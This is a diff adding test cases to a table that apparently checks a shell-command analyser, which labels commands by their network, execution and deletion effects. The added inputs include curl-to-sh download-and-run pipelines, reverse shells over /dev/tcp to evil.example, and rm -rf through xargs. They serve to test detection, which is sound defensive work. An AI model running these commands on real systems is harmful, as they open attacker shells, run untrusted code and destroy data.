@@ -193,6 +193,67 @@ TABLE = [
             "delete /w/x",
         ],
     ),
+    (
+        "curl http://h/x > >(sh)",
+        [
+            "run sh",
+            "code shell stdin",
+            "run curl http://h/x",
+            "network fetch h 80",
+            "flow download-to-interpreter",
+        ],
+    ),
+    (
+        "bash -i >& /dev/tcp/evil.example/99 0>&1",
+        [
+            "run bash",
+            "code shell stdin",
+            "network connect evil.example 99",
+            "flow download-to-interpreter",
+        ],
+    ),
+    (
+        "sh < /dev/tcp/evil.example/1",
+        [
+            "run sh",
+            "code shell stdin",
+            "flow download-to-interpreter",
+            "network connect evil.example 1",
+        ],
+    ),
+    (
+        "xargs -I{} sh -c 'rm -rf {}'",
+        [
+            "run xargs sh rm -rf {}",
+            "opaque",
+            "run sh rm -rf ${words_of_xargs}",
+            "run rm ?",
+            "delete ?",
+        ],
+    ),
+    (
+        "sh < <(curl http://h/x)",
+        [
+            "run curl http://h/x",
+            "network fetch h 80",
+            "run sh",
+            "code shell stdin",
+            "flow download-to-interpreter",
+        ],
+    ),
+    (
+        "curl http://h/x | (cat | sh)",
+        [
+            "run curl http://h/x",
+            "network fetch h 80",
+            "run cat",
+            "run sh",
+            "code shell stdin",
+            "flow download-to-interpreter",
+        ],
+    ),
+    ("FOO=a sh -c 'rm $FOO'", ["run sh rm $FOO", "run rm a", "delete /w/a"]),
+    ("cd a && true; rm ../x", ["run cd a", "run true", "run rm ../x", "delete /w/x", "delete /x"]),
 ]
 
 
